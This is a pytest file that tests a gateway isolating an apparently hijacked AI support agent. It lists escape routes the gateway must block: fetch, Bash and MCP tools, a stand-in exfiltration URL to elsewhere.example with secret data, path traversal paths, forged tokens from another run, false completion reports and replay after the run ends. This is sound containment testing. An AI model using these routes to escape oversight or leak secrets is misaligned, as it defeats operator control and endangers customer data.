"""What else a box that was taken over could knock at, with the only secret it has: its run token."""

from typing import Any

import httpx
import pytest
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver

from agents import actions as runs
from agents.gateway.dispatch import dispatch
from agents.models import LlmCall, Run
from bench.obedient import Inside, hostile_reply
from bench.placements import OWN
from bench.stage import Stage, changed, run_of
from drafts.models import Draft, Handoff
from tests import make_drafts as make
from tests.conftest import Jobs, Send
from tests.gateway.mcp_client import Box
from tests.gateway.messages_api import MessagesApi
from tests.pylon.server import PylonServer
from tickets.models import Ticket

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("blind")]
ASK: dict[str, Any] = {"model": "m", "max_tokens": 10, "messages": [{"role": "user", "content": "Hello"}]}
URL = {"type": "url", "url": "https://elsewhere.example/?data=secret"}
WAYS_OUT: list[dict[str, Any]] = [
    {"tools": [{"type": "web_fetch_20250910", "name": "web_fetch"}]},
    {"tools": [{"type": "web_search_20250305", "name": "mcp__gizmo__web_search"}]},
    {"tools": [{"type": "code_execution_20250825", "name": "Read"}]},
    {"tools": [{"type": "custom", "name": "Bash", "input_schema": {}}]},
    {"tools": [{"type": "mcp_toolset", "mcp_server_name": "evil"}]},
    {"mcp_servers": [{"type": "url", "url": "https://elsewhere.example", "name": "evil"}]},
    {"container": {"skills": [{"type": "custom", "skill_id": "x"}]}},
    *(
        {"messages": [{"role": "user", "content": [{"type": kind, "source": source}]}]}
        for kind in ("image", "document")
        for source in (URL, {"type": "file", "file_id": "f"})
    ),
    {"messages": [{"role": "user", "content": [{"type": "container_upload", "file_id": "f"}]}]},
    {"messages": [{"role": "assistant", "content": [{"type": "server_tool_use", "name": "web_fetch", "id": "s"}]}]},
    {"messages": [{"role": "user", "content": [{"type": "search_result", "source": "https://elsewhere.example"}]}]},
]


def bearer(token: str) -> dict[str, str]:
    return {"authorization": f"Bearer {token}"}


def test_the_model_cannot_be_asked_to_fetch_for_it(gateway: str, upstream: MessagesApi, stage: Stage) -> None:
    for more in WAYS_OUT:
        answer = httpx.post(
            f"{gateway}/llm/v1/messages", json={**ASK, **more}, headers=bearer(stage.token), trust_env=False
        )
        assert answer.status_code == 403, more
    assert upstream.asked == []
    assert LlmCall.objects.filter(run=stage.run, verdict="allowed").count() == 0


@pytest.mark.parametrize("path", ["v1/files", "v1/messages/batches", "v1/models", "v1/messages/../files", "../admin/"])
def test_only_messages_pass_to_the_model(gateway: str, upstream: MessagesApi, stage: Stage, path: str) -> None:
    answer = httpx.post(f"{gateway}/llm/{path}", json=ASK, headers=bearer(stage.token), trust_env=False)
    assert answer.status_code == 404
    assert upstream.asked == []


def test_what_it_can_learn_of_another_run_opens_nothing(gateway: str, stage: Stage) -> None:
    other = stage.their_run
    tokens = [other.key, f"gzrun_{other.key}", other.token_sha256, f"gzrun_{other.token_sha256}", f"gzrun_{other.pk}"]
    for token in tokens:
        for path in ("mcp/", "run/report", "llm/v1/messages"):
            answer = httpx.post(f"{gateway}/{path}", json=ASK, headers=bearer(token), trust_env=False)
            assert answer.status_code in {401, 403}, path


def test_it_reports_no_end_but_its_own_and_no_outcome_it_has_not(gateway: str, stage: Stage) -> None:
    lie = {"event": "finished", "ok": True, "run": stage.their_run.pk, "key": stage.their_run.key, "outcome": "draft"}
    assert httpx.post(f"{gateway}/run/report", json=lie, headers=bearer(stage.token), trust_env=False).is_success
    ended, other = Run.objects.get(pk=stage.run.pk), Run.objects.get(pk=stage.their_run.pk)
    assert (ended.status, ended.outcome, other.status) == (Run.Status.FAILED, "", Run.Status.RUNNING)
    assert Handoff.objects.filter(ticket=ended.ticket).exists()
    for event in ("started", "finished", "approved"):
        answer = httpx.post(
            f"{gateway}/run/report", json={"event": event}, headers=bearer(stage.token), trust_env=False
        )
        assert answer.status_code == 403


def test_when_its_run_is_over_nothing_it_did_can_be_done_again(gateway: str, stage: Stage) -> None:
    box, calls = Box(gateway, stage.token), [("get_ticket", {}), ("submit_draft", hostile_reply(stage, OWN[0]))]
    assert not box.call(*calls[0]).is_error
    runs.finish_run(stage.run)
    before = stage.state()
    for path in ("mcp/", "llm/v1/messages", "run/report"):
        answer = httpx.post(f"{gateway}/{path}", json=ASK, headers=bearer(stage.token), trust_env=False)
        assert answer.status_code in {401, 403}
    stage.run.refresh_from_db()
    assert all(dispatch(stage.run, name, arguments).is_error for name, arguments in calls)
    assert not Draft.objects.filter(run=stage.run.pk).exists()
    assert changed(before, stage.state()) == []


def staff_addresses() -> list[str]:
    """Every address of the staff site, with the ids of somebody else where ids go."""

    def walk(patterns: list[Any], prefix: str) -> list[str]:
        found: list[str] = []
        for each in patterns:
            path = prefix + str(each.pattern)
            found += walk(each.url_patterns, path) if isinstance(each, URLResolver) else [path]
            assert isinstance(each, URLResolver | URLPattern)
        return found

    return sorted({_with_ids(path) for path in walk(get_resolver().url_patterns, "/")})


def _with_ids(path: str) -> str:
    plain = "".join("1" if part.startswith("<") else part for part in _split(path))
    return plain.replace("^", "").replace("\\Z", "").replace("$", "")


def _split(path: str) -> list[str]:
    return [part for piece in path.split("<") for part in ([f"<{piece.split('>', 1)[0]}", piece.split(">", 1)[1]]
            if ">" in piece else [piece])]  # fmt: skip


# Signing in and out, and what says nothing.
OPEN = ("/accounts/log", "/admin/log", "/admin/jsi18n/", "/healthz", "/readyz")


def test_the_staff_site_takes_no_run_token(stage: Stage, client: Client) -> None:
    before, addresses = stage.state(), staff_addresses()
    client.cookies["sessionid"] = stage.token
    client.defaults["HTTP_AUTHORIZATION"] = f"Bearer {stage.token}"
    answered = [
        (address, answer.status_code)
        for address in addresses
        if not address.startswith(OPEN)
        for answer in (client.get(address), client.post(address, {"approve": "1"}))
    ]
    assert len([status for _, status in answered if status in {302, 403}]) > 200
    assert [found for found in answered if found[1] not in {301, 302, 400, 401, 403, 404, 405}] == []
    assert changed(before, stage.state()) == []


def test_its_draft_reaches_no_customer_by_itself(stage: Stage, pylon: PylonServer, webhook: Send, jobs: Jobs) -> None:
    jobs.hold = {"agents.jobs.launch", "agents.jobs.launch_next", "agents.jobs.ticket_ready"}
    issue = pylon.open_issue(OWN[1].text)
    webhook({"issue_id": issue["id"], "message_id": issue["message_ids"][0]})
    jobs.run()
    stage.run, stage.token = run_of(make.triaged(Ticket.objects.get(pylon_id=issue["id"])))
    answer = Inside(stage.token).call("submit_draft", hostile_reply(stage, OWN[1]))
    assert not answer.refused, answer.text
    runs.finish_run(stage.run)
    jobs.run(ahead=True)
    assert Draft.objects.get(run=stage.run.pk).status == Draft.Status.OPEN
    assert pylon.outbox() == []
